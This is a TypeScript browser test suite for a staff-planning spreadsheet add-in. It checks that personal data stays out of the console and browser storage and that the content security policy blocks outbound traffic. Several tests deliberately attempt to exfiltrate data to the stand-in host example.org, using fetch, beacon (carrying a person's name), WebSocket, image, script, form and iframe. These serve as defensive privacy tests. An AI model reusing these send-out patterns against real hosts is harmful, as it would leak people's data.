import { launch } from './support/browser';
import { WorkbenchPage } from './support/workbench';

/** Staff data stays in the workbook: not in the console, not in the browser's storage, and not on the way to anybody. */
let workbench: WorkbenchPage;
/** Everything that any page said in its console. */
const said: string[] = [];

beforeAll(async () => {
  workbench = await WorkbenchPage.open({ sample: true, ownBrowser: true });
  workbench.browser.context.on('console', (message) => said.push(`${message.type()}: ${message.text()}`));
  await workbench.pane.evaluate(() => {
    const refused: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      refused.push(`${violatedDirective}: ${blockedURI}`),
    );
    Object.assign(window, { refused });
  });
});

afterAll(async () => {
  await workbench?.close();
});

const pane = () => workbench.pane;
const refusedByPolicy = () =>
  pane().evaluate(() => [...(window as unknown as { refused: string[] }).refused]);

/** All that the browser keeps for the pane's address. */
async function stored(): Promise<string> {
  const kept = await pane().evaluate(async () => ({
    local: { ...localStorage },
    session: { ...sessionStorage },
    databases: (await indexedDB.databases()).map(({ name }) => name),
    caches: await caches.keys(),
    cookies: document.cookie,
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  }));
  expect([kept.databases, kept.caches, kept.cookies, kept.workers]).toEqual([[], [], '', 0]);
  expect(await workbench.browser.context.cookies()).toEqual([]);
  return JSON.stringify(kept);
}

/** What tells who somebody is or what they want: names and courses of the sample school. */
async function personalData(): Promise<string[]> {
  const people = await workbench.cells('Medewerkers', 'A2:B25');
  const wishes = await workbench.cells('Wensen', 'B2:B40');
  return [...people.flat(), ...wishes.flat()].map(String).filter((text) => text !== '');
}

test('the main job leaves no word in the console, nor anything of a person in the storage', async () => {
  await workbench.select('Medewerkers', 'B6');
  await pane().getByRole('heading', { name: 'Emre Routerkast' }).waitFor();
  await pane().getByRole('button', { name: 'Zet plan in werkmap' }).click();
  await pane().getByRole('button', { name: 'Schrijf naar Plan' }).click();
  await pane().getByText('Het plan van Emre Routerkast staat in Plan.').first().waitFor();
  await pane().getByRole('button', { name: 'Ongedaan maken' }).first().click();
  await pane().getByText('Ongedaan gemaakt: alles staat weer zoals het was.').first().waitFor();
  await workbench.idle();

  const people = await personalData();
  expect(people.length).toBeGreaterThan(50);
  const kept = await stored();
  // Personnel numbers and the like are looked for as whole words: a time that holds 1005 is nobody.
  const found = people.filter((text) => new RegExp(`\\b${text.replace(/[^\w ]/g, '.')}\\b`).test(kept));
  expect(found).toEqual([]);
  expect(said).toEqual([]);
});

test('a failure says what went wrong without the cells that it was about', async () => {
  await workbench.setCell('Medewerkers', 'F6', 'geheim dossier');
  await pane().getByText('De bedragen van deze medewerker zijn niet te berekenen.').waitFor();
  await workbench.injectFault({ nth: 1, code: 'GeneralException' });
  await workbench.setCell('Medewerkers', 'F6', 0.8);
  await workbench.idle();
  await workbench.clearFaults();
  expect(said).toEqual([]);
  expect(await stored()).not.toContain('geheim');
  expect(workbench.browser.pageErrors).toEqual([]);
});

test('all of that needs nothing that the policy refuses', async () => {
  expect(await refusedByPolicy()).toEqual([]);
});

test.each([
  ['a request', 'connect-src', () => void fetch('https://example.org/wie').catch(() => undefined)],
  ['a beacon', 'connect-src', () => void navigator.sendBeacon('https://example.org/wie', 'Emre')],
  ['a web socket', 'connect-src', () => void new WebSocket('wss://example.org/wie')],
  ['a picture', 'img-src', () => void (new Image().src = 'https://example.org/wie.png')],
  [
    'a script from elsewhere',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = 'https://example.org/wie.js';
      document.head.append(script);
    },
  ],
  [
    'a script in the page',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'window.wie = 1';
      document.head.append(script);
    },
  ],
  [
    'a form',
    'form-action',
    () => {
      const form = document.createElement('form');
      form.action = 'https://example.org/wie';
      form.target = '_blank'; // in the pane's own frame the workbench would refuse it before the pane does
      document.body.append(form);
      form.submit();
    },
  ],
  [
    'a frame',
    'default-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://example.org/wie';
      document.body.append(frame);
    },
  ],
])('%s that would carry data away is refused by the policy', async (_, directive, send) => {
  const before = (await refusedByPolicy()).length;
  await pane().evaluate(send as () => void);
  await pane().waitForFunction(
    (count) => (window as unknown as { refused: string[] }).refused.length > count,
    before,
  );
  expect((await refusedByPolicy()).slice(before).join()).toMatch(new RegExp(`^(${directive}|frame-src)`));
  expect(workbench.browser.outside).toEqual([]);
});

describe('the fence around the tests', () => {
  test.each([
    ['a request', () => void fetch('https://example.org/').catch(() => undefined)],
    ['a web socket', () => void new WebSocket('wss://example.org/')],
  ])('fails a run in which %s goes to another machine', async (_, send) => {
    const browser = await launch();
    const page = await browser.context.newPage();
    // An empty page has no policy, so only the fence can stop this.
    await page.goto('about:blank');
    await page.evaluate(send as () => void);
    while (browser.outside.length === 0) await page.waitForTimeout(10);
    await expect(browser.close()).rejects.toThrow('Requests to the outside: ');
  });
});
